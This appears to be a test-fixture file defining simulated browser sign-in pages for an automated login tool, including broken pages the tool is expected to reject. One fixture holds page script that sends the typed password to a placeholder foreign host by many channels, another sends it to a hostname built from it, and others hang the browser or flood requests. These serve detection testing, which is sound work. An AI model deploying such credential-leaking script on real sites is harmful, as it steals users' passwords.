import { readFileSync } from 'node:fs';
import type { SignInCode } from '../../../src/engine/session/probe/sign-in-context.ts';
import type { Case } from './kinds.ts';
import { PASSWORD, respond, TOTP_SECRET, USER } from './login-site.ts';

/** The shell of an application: without its scripts it shows nothing. */
const SHELL = '<!doctype html><title>App</title><div id="root"></div><script type="module" src="/app.js"></script>';
/** The paths of the interfaces are put together, so that they cannot be read from the script. */
const PATHS = `const at = (...parts) => ['', ...parts].join('/');`;
const FORM =
  '<form><label for=u>Email</label><input id=u><label for=p>Password</label><input id=p type=password><button type=button aria-label="Show password">o</button><button>Log in</button></form>';
const SEND = `${PATHS}
const root = document.getElementById('root');
const send = (path, values) => fetch(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(values) });
const value = (id) => document.getElementById(id).value;
`;
const preact = readFileSync(new URL('../../../node_modules/preact/dist/preact.mjs', import.meta.url), 'utf8');

const app = (script: string, more: Partial<Case> = {}): Case => ({
  nobody: { markup: SHELL },
  json: { path: '/rest/open', user: 'login', gives: 'cookie' },
  ...more,
  pages: { '/login': SHELL, '/app.js': `${SEND}${script}`, ...more.pages },
});

/** Shows the form at once; `after` runs with the response to the right password. */
const plain = (after: string) => `
root.innerHTML = ${JSON.stringify(FORM)};
root.querySelector('form').onsubmit = async (event) => {
  event.preventDefault();
  const response = await send(at('rest', 'open'), { login: value('u'), password: value('p') });
  if (!response.ok) return;
  ${after}
};`;

const BEARER = `
const show = () => { root.textContent = 'Hello'; return fetch('/settings', { headers: { Authorization: 'Bearer ' + localStorage.getItem('session-token') } }); };
if (localStorage.getItem('session-token')) { fetch('/kept'); show(); } else {
${plain("localStorage.setItem('session-token', (await response.json()).authentication.value); show();")}
}`;

/** Sign-ins that only a browser sees. */
export const SCRIPTED: Readonly<Record<string, Case>> = {
  'a form that a script writes, and a cookie': app(plain("root.textContent = 'Hello'; fetch('/settings');")),
  'fields that a framework controls': app(
    `
import { Component, h, render } from '/preact.js';
class Login extends Component {
  state = { name: '', secret: '' };
  render() {
    const bind = (key) => ({ value: this.state[key], onInput: (event) => this.setState({ [key]: event.target.value }) });
    const submit = async (event) => {
      event.preventDefault();
      await send(at('rest', 'open'), { login: this.state.name, password: this.state.secret });
      location.href = '/settings';
    };
    return h('form', { onSubmit: submit }, h('input', { type: 'email', ...bind('name') }), h('input', { type: 'password', ...bind('secret') }), h('button', { disabled: this.state.secret === '' }, 'Go'));
  }
}
render(h(Login), root);`,
    { pages: { '/preact.js': preact } },
  ),
  'fields whose value a framework tracks': app(`${plain("root.textContent = 'Hello'; fetch('/settings');")}
const typed = {};
for (const input of root.querySelectorAll('input')) {
  const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  let last = '';
  Object.defineProperty(input, 'value', { get: () => typed[input.id] ?? '', set(text) { last = text; own.set.call(input, text); } });
  input.addEventListener('input', () => { const now = own.get.call(input); if (now !== last) typed[input.id] = last = now; });
}`),
  'a token in local storage': app(BEARER, {
    homeMarkup: SHELL,
    json: { path: '/rest/open', user: 'login', gives: 'token', success: '{"authentication":{"value":"{token}"}}' },
  }),
  'a token that is kept in memory': app(
    plain(
      "const { access_token } = await response.json(); root.textContent = 'Hello'; fetch('/settings', { headers: { Authorization: 'Bearer ' + access_token } });",
    ),
    { json: { path: '/rest/open', user: 'login', gives: 'token', success: '{"access_token":"{token}"}' } },
  ),
  'two steps': app(
    `
root.innerHTML = '<h1>Sign in</h1><form><input id=u placeholder="Email or phone"><button>Next</button></form>';
root.querySelector('form').onsubmit = async (event) => {
  event.preventDefault();
  const name = value('u');
  if (!(await (await send(at('rest', 'exists'), { login: name })).json()).exists) return;
  root.innerHTML = '<h1>Sign in</h1><form><input id=p type=password><button>Next</button></form>';
  root.querySelector('form').onsubmit = async (second) => {
    second.preventDefault();
    await send(at('rest', 'open'), { login: name, password: value('p') });
    location.assign('/settings');
  };
};`,
    { intercept: ({ url }, response) => url === '/rest/exists' && respond(response, 200, '{"exists":true}') },
  ),
  'a one-time code': {
    nobody: { markup: SHELL },
    login: { username: USER, password: PASSWORD, totp: TOTP_SECRET },
    steps: [
      { path: '/rest/one', user: 'login', password: 'password', markup: '' },
      { path: '/rest/two', code: 'otp', markup: '' },
    ],
    pages: {
      '/app.js': `${SEND}
const post = (path, values) => fetch(path, { method: 'POST', body: new URLSearchParams(values) });
root.innerHTML = ${JSON.stringify(FORM)};
root.querySelector('form').onsubmit = async (event) => {
  event.preventDefault();
  const response = await post(at('rest', 'one'), { login: value('u'), password: value('p') });
  if (!response.url.endsWith('two')) return;
  root.innerHTML = '<form><label>Authentication code <input id=c inputmode=numeric></label><button>Verify</button></form>';
  root.querySelector('form').onsubmit = async (second) => {
    second.preventDefault();
    await post(at('rest', 'two'), { otp: value('c') });
    location.assign('/settings');
  };
};`,
    },
  },
  'a shadow tree in a frame': app(
    `
const frame = document.createElement('iframe');
frame.src = '/frame';
root.append(frame);`,
    {
      pages: {
        '/frame': '<!doctype html><sign-in-box></sign-in-box><script src="/frame.js"></script>',
        '/frame.js': `
customElements.define('sign-in-box', class extends HTMLElement {
  connectedCallback() {
    const tree = this.attachShadow({ mode: 'open' });
    tree.innerHTML = '<input name=user placeholder=Email><input type=password><button>Log in</button>';
    const [user, password] = tree.querySelectorAll('input');
    tree.querySelector('button').onclick = async () => {
      await fetch(['', 'rest', 'open'].join('/'), { method: 'POST', body: JSON.stringify({ login: user.value, password: password.value }) });
      fetch('/settings');
      tree.textContent = 'Hello';
    };
  }
});`,
      },
    },
  ),
  'a dialog behind a button': app(
    `
root.innerHTML = '<button>Help</button><button>Log in</button><p>${'All the news of the day. '.repeat(40)}';
root.querySelectorAll('button')[1].onclick = () => { ${plain("root.textContent = 'Hello'; fetch('/settings');")} };`,
    { pages: { '/login': '<!doctype html><title>Not found</title>' } },
  ),
  'a route in the fragment': app(
    `
const show = () => {
  root.innerHTML = '<a href="#/">Home</a> <a href="#/login">Account</a>';
  if (location.hash === '#/login') { ${plain("root.textContent = 'Hello'; fetch('/settings');")} }
};
addEventListener('hashchange', show);
show();`,
  ),
  'a form that the browser sends': {
    nobody: { markup: SHELL },
    steps: [{ path: '/enter', csrf: '_token', user: 'email', password: 'password', markup: '<p>{csrf}' }],
    pages: {
      '/app.js': `
const token = (await (await fetch('/enter')).text()).slice(3);
document.getElementById('root').innerHTML = '<form method=post action=/enter><input name=email><input type=password name=password><input type=hidden name=_token><input type=submit value="Log in"></form>';
document.querySelector('[name=_token]').value = token;`,
    },
  },
};

interface ScriptedBroken {
  readonly kind: Case;
  readonly code: SignInCode;
  /** Maximum POSTs that the target gets. */
  readonly posts: number;
}

const wrong = { username: USER, password: 'wrong-Harbor-63' };

/** Sign-ins of the browser that must not pass as one. `{foreign}` in a script is another origin. */
export const SCRIPTED_BROKEN: Readonly<Record<string, ScriptedBroken>> = {
  'a wrong password that gives 401': {
    kind: { ...(SCRIPTED['a token in local storage'] as Case), login: wrong },
    code: 'sign_in_denied',
    posts: 1,
  },
  'a wrong password that gives 200 and shows the form again': {
    kind: app(plain(''), {
      login: wrong,
      json: { path: '/rest/open', user: 'login', gives: 'token', refusal: [200, '{}'] },
    }),
    code: 'sign_in_denied',
    posts: 1,
  },
  'a wrong user name in the first of two steps': {
    kind: {
      ...(SCRIPTED['two steps'] as Case),
      intercept: ({ url }, response) => url === '/rest/exists' && respond(response, 404, '{}'),
    },
    code: 'sign_in_denied',
    posts: 1,
  },
  'a one-time code without its secret': {
    kind: { ...(SCRIPTED['a one-time code'] as Case), login: { username: USER, password: PASSWORD } },
    code: 'sign_in_code_required',
    posts: 1,
  },
  'a page that shows no form': {
    kind: app("root.textContent = 'Coming soon';", { json: { path: '/none', user: 'a', gives: 'cookie' } }),
    code: 'sign_in_scripted',
    posts: 4,
  },
  'a captcha that stops the form': {
    kind: app(
      `root.innerHTML = ${JSON.stringify(`${FORM}<div class="g-recaptcha"></div>`)}; root.querySelector('form').onsubmit = () => false;`,
    ),
    code: 'sign_in_captcha',
    posts: 0,
  },
  'a page that sends the password to another origin': {
    kind: app(`
root.innerHTML = ${JSON.stringify(FORM)};
const leak = (secret) => {
  const urls = ['{foreign}/?p=' + secret, '{foreign}/?p=' + btoa(secret)];
  for (const url of urls) { new Image().src = url; fetch(url, { mode: 'no-cors' }).catch(() => {}); navigator.sendBeacon(url, secret); }
  const script = document.createElement('script');
  script.src = urls[0];
  document.head.append(script);
  try { new WebSocket('{foreign}'.replace('http', 'ws') + '/' + secret); } catch {}
  fetch('/search?q=' + encodeURIComponent(secret)).catch(() => {});
  window.open(urls[0]);
  const link = document.createElement('link');
  link.rel = 'prefetch';
  link.href = urls[0];
  document.head.append(link);
};
document.getElementById('p').oninput = () => leak(value('p'));
root.querySelector('form').onsubmit = async (event) => {
  event.preventDefault();
  leak(value('p'));
  await fetch('{foreign}/collect', { method: 'POST', mode: 'no-cors', body: value('p') }).catch(() => {});
  location.href = '{foreign}/?p=' + value('p');
};`),
    code: 'sign_in_off_host',
    posts: 0,
  },
  'a page that sends the password to a host of that name': {
    kind: app(
      `
root.innerHTML = ${JSON.stringify(FORM)};
root.querySelector('form').onsubmit = (event) => {
  event.preventDefault();
  fetch('http://' + value('p') + '.example/', { method: 'POST', body: value('p') });
};`,
    ),
    code: 'sign_in_off_host',
    posts: 0,
  },
  'a form whose password would be part of a URL': {
    kind: app(
      `root.innerHTML = '<form action=/find><input name=user><input name=pass type=password><button>Log in</button></form>';`,
    ),
    code: 'sign_in_scripted',
    posts: 0,
  },
  'a page that writes the password into its path': {
    kind: app(
      `
root.innerHTML = ${JSON.stringify(FORM)};
document.getElementById('p').oninput = () => history.pushState({}, '', '/' + value('p'));
root.querySelector('form').onsubmit = () => false;`,
    ),
    code: 'sign_in_scripted',
    posts: 0,
  },
  'a page that stops the browser': {
    kind: app(`root.innerHTML = ${JSON.stringify(FORM)}; document.getElementById('p').oninput = () => { for (;;); };`),
    code: 'sign_in_scripted',
    posts: 0,
  },
  'a page that sends without end': {
    kind: app(
      `
root.innerHTML = ${JSON.stringify(FORM)};
let count = 0;
const again = () => { count += 1; send(at('rest', 'open'), { login: value('u'), password: value('p'), count }); send(at('rest', 'log', count), { count }); };
document.getElementById('p').oninput = () => { for (let index = 0; index < 50; index += 1) again(); setInterval(again, 5); };`,
      {
        login: wrong,
        intercept: ({ url }, response) => url?.startsWith('/rest/log') === true && respond(response, 200, '{}'),
      },
    ),
    code: 'sign_in_denied',
    posts: 8,
  },
};
